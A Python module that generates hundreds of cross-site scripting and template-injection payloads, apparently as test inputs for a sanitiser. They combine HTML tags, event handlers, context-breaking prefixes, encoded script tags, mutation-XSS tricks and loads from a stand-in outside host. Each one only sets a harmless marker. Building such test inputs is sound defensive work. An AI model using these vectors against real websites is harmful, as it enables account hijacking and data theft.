"""Mark-up and scripts as somebody might hide them in a listing, made in code: each would call `hit()` if it ran."""

from itertools import islice, product

CALL = "window.hit=1"
OUTSIDE = "http://outside.invalid/x"
TAGS = ("img", "svg", "body", "iframe", "video", "audio", "object", "embed", "input", "details", "marquee", "form", "a")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "onclick")
BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</p></main>", "`", "]]>", "\u2028")
WHOLE = (
    f"<script>{CALL}</script>",
    f'<script src="{OUTSIDE}"></script>',
    f"<ScRiPt\t>{CALL}</sCrIpT >",
    f"<<script>script>{CALL}<</script>/script>",
    f'<link rel=stylesheet href="{OUTSIDE}">',
    f"<style>@import '{OUTSIDE}';</style>",
    f'<img src="{OUTSIDE}">',
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    f'<base href="{OUTSIDE}">',
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<a href="javascript:{CALL}" autofocus>x</a>',
    f'<form action="{OUTSIDE}"><button autofocus>x',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "{{ 7 * 7 }}{% for x in [1] %}{{ config }}{% endfor %}",
    f"${{{CALL}}}<%= {CALL} %>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"javascript:{CALL}//",
    f"data:text/html,<script>{CALL}</script>",
    f"[click](javascript:{CALL})",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
)


def payloads(number):
    """Return so many different ones."""
    made = (
        f"{out}<{tag} src={OUTSIDE} {event}={CALL} tabindex=0 autofocus>"
        for out, event, tag in product(BREAKS, EVENTS, TAGS)
    )
    broken = (out + whole for whole, out in product(WHOLE, BREAKS[:4]))
    found = list(islice(dict.fromkeys([*broken, *made]), number))
    assert len(found) == number
    return found
